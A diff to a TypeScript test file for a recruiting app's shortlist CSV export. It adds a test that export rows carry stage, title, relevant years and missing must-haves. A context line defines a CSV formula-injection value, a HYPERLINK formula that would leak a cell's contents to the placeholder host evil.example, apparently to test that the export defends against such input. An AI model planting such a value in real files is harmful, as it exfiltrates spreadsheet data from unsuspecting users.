@@ -5,12 +5,16 @@
  */
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { EXPORT_COLUMNS, shortlistCsv, type ExportRow } from '../../src/lib/services/candidates.service';
+import { EXPORT_COLUMNS, shortlistCsv, toExportRows, type ExportRow } from '../../src/lib/services/candidates.service';
+import type { ShortlistEntry } from '../../src/lib/state/shortlist.svelte';
 
 const HOSTILE_FILE = '=HYPERLINK("http://evil.example/?leak="&B2,"open").pdf';
 
 function row(over: Partial<ExportRow>): ExportRow {
-  return { rank: 1, candidate: 'Candidate #1', file: 'cv.pdf', location: '', score: 71, mustHavesMet: '2/3', status: 'parsed', decision: '', note: '', ...over };
+  return {
+    rank: 1, candidate: 'Candidate #1', file: 'cv.pdf', location: '', score: 71, mustHavesMet: '2/3', mustHavesMissing: '', title: '',
+    relevantYears: null, stage: 'New', status: 'parsed', decision: '', note: '', ...over
+  };
 }
 
 describe('shortlistCsv', () => {
@@ -37,5 +41,28 @@ describe('shortlistCsv', () => {
     const csv = shortlistCsv([row({ file: 'Jane Roe – CV (2024).pdf', note: 'Strong SQL; call back Friday, 10am' })]);
     const [cells] = Papa.parse<Record<string, string>>(csv, { header: true }).data;
     expect(cells).toMatchObject({ file: 'Jane Roe – CV (2024).pdf', note: 'Strong SQL; call back Friday, 10am', score: '71', rank: '1' });
+  });
+});
+
+describe('toExportRows', () => {
+  it('carries what the table shows: stage, title, relevant years and the must-haves not met', () => {
+    const entry = (id: string, over: Partial<ShortlistEntry>) => ({
+      row: { candidate: { id, status: 'scored' }, decision: { decision: 'select', note: 'call' } },
+      label: `Candidate ${id}`, fileLabel: 'PDF · 1 KB', score: 64.5, mustMet: 1, mustTotal: 3, stage: 'new', profile: null, mustChips: [], ...over
+    }) as unknown as ShortlistEntry;
+    const entries = [
+      entry('a', {
+        stage: 'interview',
+        profile: { title: 'Senior Data Engineer', titleRelevant: true, relevantYears: 6.5, skills: [], searchText: '' },
+        mustChips: [{ id: 'r1', label: 'Python', met: 'yes' }, { id: 'r2', label: 'Airflow', met: 'no' }, { id: 'r3', label: 'SQL', met: 'partial' }, { id: 'r4', label: 'dbt', met: 'no' }]
+      }),
+      entry('b', {})
+    ];
+    const rows = toExportRows(entries, new Map([['a', 2], ['b', 1]]));
+    expect(rows[0]).toMatchObject({ rank: 2, stage: 'Interview', title: 'Senior Data Engineer', relevantYears: 6.5, mustHavesMissing: 'Airflow; dbt', mustHavesMet: '1/3', decision: 'select' });
+    expect(rows[1]).toMatchObject({ rank: 1, stage: 'New', title: '', relevantYears: null, mustHavesMissing: '' });
+    const [first] = Papa.parse<Record<string, string>>(shortlistCsv(rows), { header: true }).data;
+    expect(Object.keys(first)).toEqual(EXPORT_COLUMNS);
+    expect(first).toMatchObject({ stage: 'Interview', title: 'Senior Data Engineer', relevantYears: '6.5', mustHavesMissing: 'Airflow; dbt' });
   });
 });
